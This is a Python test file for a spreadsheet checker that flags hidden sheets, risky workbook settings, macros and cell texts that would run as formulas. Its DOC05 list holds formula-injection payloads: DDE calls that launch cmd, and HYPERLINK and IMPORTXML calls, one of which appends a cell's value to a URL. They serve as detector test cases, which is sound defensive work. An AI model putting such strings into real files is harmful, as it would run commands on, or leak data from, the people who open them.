"""DOC02 to DOC05: hidden sheets, settings, active content, texts that would run. First what must stay silent."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from pik_excel.checks.executable_text import acts
from tests.asking import findings, places

PLAN = """
Blatt "Plan":

|   | A            | B                 | C                 |
|---|--------------|-------------------|-------------------|
| 1 | Maßnahme     | 2022 TEUR         | 2023 TEUR         |
| 2 | Jobkraftwerk | {first}           | 66                |
| 3 | OMID         | 290               | 290               |
| 4 | Summe        | =SUM(B2:B3) → 356 | =SUM(C2:C3) → 356 |
"""
HIDDEN = """
Blatt "{name}" (ausgeblendet):

|   | A            | B     |
|---|--------------|-------|
| 1 | Grundlage    | Wert  |
| 2 | Jobkraftwerk | {value} |
"""


def sheets(first: str, name: str = "Bedarf", value: str = "66000") -> str:
    return PLAN.format(first=first) + HIDDEN.format(name=name, value=value)


# --- DOC02 ---


def test_a_hidden_sheet_that_nothing_reads_is_silent() -> None:
    assert not places(sheets("66"), "DOC02")


def test_a_hidden_list_of_words_is_silent() -> None:
    assert not places(sheets('=IF(Bedarf!B2="ja",66,0) → 66', value="ja"), "DOC02")


def test_a_hidden_sheet_whose_cells_are_read_but_go_into_no_total_is_silent() -> None:
    text = """
    Blatt "Plan":

    |   | A        | B                     |
    |---|----------|-----------------------|
    | 1 | Stand    | =Bedarf!B2 → 66000    |
    """
    assert not places(text + HIDDEN.format(name="Bedarf", value="66000"), "DOC02")


def test_a_hidden_sheet_that_itself_adds_up_visible_amounts_is_silent() -> None:
    assert not places(
        PLAN.format(first="66") + HIDDEN.format(name="Kontrolle", value="=SUM(Plan!B2:B3) → 356"), "DOC02"
    )


@pytest.mark.parametrize("formula", ["=Bedarf!B2/1000 → 66", "=VLOOKUP(A2,Bedarf!A1:B9,2,FALSE)/1000 → 66"])
def test_a_hidden_amount_in_a_visible_total_is_named_at_the_total(formula: str) -> None:
    (found,) = findings(sheets(formula), "DOC02")
    assert (found.sheet, found.range, found.severity.value) == ("Plan", "B4", "warning")
    assert "„Bedarf“" in found.message and "Plan!B2" in found.message


def test_a_total_that_adds_the_hidden_sheet_directly_is_named_too() -> None:
    text = """
    |   | A     | B                        |
    |---|-------|--------------------------|
    | 1 | Summe | =SUM(Bedarf!B2:B9) → 66000 |
    """
    assert places(text + HIDDEN.format(name="Bedarf", value="66000"), "DOC02") == ["DOC02 warning B1"]


def test_each_hidden_sheet_is_one_finding_however_many_totals_it_goes_into() -> None:
    text = sheets("=Bedarf!B2/1000 → 66").replace("| 66                |", "| =Bedarf!B2/1000 → 66 |")
    (found,) = findings(text, "DOC02")
    assert "eine weitere Summe" in found.message


# --- DOC03, DOC04 ---


def with_settings(what: str, text: str = PLAN.format(first="66")) -> str:
    return f"Arbeitsmappe: {what}\n{text}"


TYPED = """
|   | A        | B         |
|---|----------|-----------|
| 1 | Maßnahme | 2022 TEUR |
| 2 | OMID     | 290       |
"""


def test_a_workbook_with_the_usual_settings_is_silent() -> None:
    assert not places(PLAN.format(first="66"), "DOC03", "DOC04")


@pytest.mark.parametrize("setting", ["manuell", "iterativ", "1904"])
def test_settings_that_change_nothing_are_silent(setting: str) -> None:
    assert not places(with_settings(setting, TYPED), "DOC03")


@pytest.mark.parametrize("setting", ["manuell", "iterativ", "wie angezeigt"])
def test_each_setting_is_a_warning(setting: str) -> None:
    assert places(with_settings(setting), "DOC03") == ["DOC03 warning Plan!A1"]


def test_dates_from_1904_are_a_warning_where_there_are_dates() -> None:
    dated = TYPED + "| 3 | Stand | 2022-12-31 |\n"
    assert places(with_settings("1904", dated), "DOC03") == ["DOC03 warning A1"]


def test_two_settings_are_two_findings_that_can_be_told_apart() -> None:
    found = findings(with_settings("manuell, iterativ"), "DOC03")
    assert len({one.fingerprint for one in found}) == len(found) == 2


def test_what_acts_is_a_notice_each() -> None:
    text = with_settings("Makros (VBA), digitale Signatur")
    found = findings(text, "DOC04")
    assert [(one.severity.value, one.stated) for one in found] == [
        ("notice", "Makros (VBA)"),
        ("notice", "digitale Signatur"),
    ]


# --- DOC05 ---

HARMLESS = [
    "- Miete",
    "-Miete",
    "– Miete",
    "- Miete (warm)",
    "-Miete(warm)",
    "- SUMME",
    "- Summe (netto)",
    "- Strom | Gas! Wasser",
    "+49 711 216-0",
    "+49-711-216-4711",
    "+49 (0)711 216",
    "+ 3 %",
    "-5",
    "-1.500,00 EUR",
    "(-) 12",
    "-A1/B1",
    "+A2",
    "- A1-B2 Kurse",
    "=> siehe Anlage 2",
    "=>A1",
    "=====",
    "= Zwischensumme",
    "= 3 Stellen",
    "=1904",
    "@stadt-stuttgart",
    "@home (Pilot)",
    "--",
    "---------",
    "+/-",
    "±0",
    "\tEingerückt",
    "\n- Miete\n- Strom",
    "-",
    "=",
    "SUMME(A1:A3)",
    "siehe =SUMME(A1:A3)",
]


@pytest.mark.parametrize("text", HARMLESS)
def test_lists_numbers_and_arrows_do_nothing(text: str) -> None:
    assert not acts(text)


@given(st.text(alphabet="abcdefgäöüß ,.-–/()0123456789€%", max_size=40).map(lambda text: "- " + text))
def test_a_dash_before_words_and_numbers_never_does_anything(text: str) -> None:
    assert not acts(text)


ACTING = [
    "=cmd|'/C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=cmd|'/C calc'!A0",
    "\r=1+1",
    '=HYPERLINK("http://example.org?x="&A1,"hier")',
    '=hyperlink("http://example.org","hier")',
    "=SUMME(B2:B9)",
    "@SUM(A1:A3)",
    "+SUM(A1:A3)",
    '-IMPORTXML("http://example.org","//a")',
    "=A1",
    "=A1+B1",
    "=1+1",
    "=(A1+$B$2)*3",
    "＝1+1",
    "+'C:\\Daten\\[x.xlsx]Plan'!A1",
    '=DDE("cmd","/C calc","!A0")',
]


@pytest.mark.parametrize("text", ACTING)
def test_calls_and_links_act(text: str) -> None:
    assert acts(text)


def test_neighbouring_texts_are_one_finding() -> None:
    text = """
    |   | A                 |
    |---|-------------------|
    | 1 | Bemerkung         |
    | 2 | '@SUM(1+1)        |
    | 3 | '=cmd!A1*HEUTE()  |
    | 4 | 'unauffällig      |
    """
    assert places(text, "DOC05") == ["DOC05 warning A2:A3"]
